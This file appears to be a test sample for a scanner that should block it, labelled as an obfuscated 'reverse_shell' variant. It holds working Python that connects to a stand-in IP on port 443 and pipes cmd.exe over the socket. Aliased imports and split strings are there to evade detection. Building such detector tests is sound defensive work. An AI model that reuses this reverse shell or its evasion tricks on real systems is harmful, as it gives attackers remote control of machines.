# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/relay_threads.py technique: alias+concat
import socket as _m0
import subprocess as _m1
import threading as _m2
s = _m0.socket(_m0.AF_INET, _m0.SOCK_STREAM)
s.connect(('203' + '.0.' + '113' + '.5', 443))
proc = _m1.Popen(['cm' + 'd.' + 'ex' + 'e'], stdin=_m1.PIPE, stdout=_m1.PIPE, stderr=_m1.STDOUT)

def to_process():
    while True:
        data = s.recv(1024)
        proc.stdin.write(data)
        proc.stdin.flush()

def to_socket():
    while True:
        s.send(proc.stdout.read(1))
_m2.Thread(target=to_process, daemon=True).start()
_m2.Thread(target=to_socket, daemon=True).start()
proc.wait()
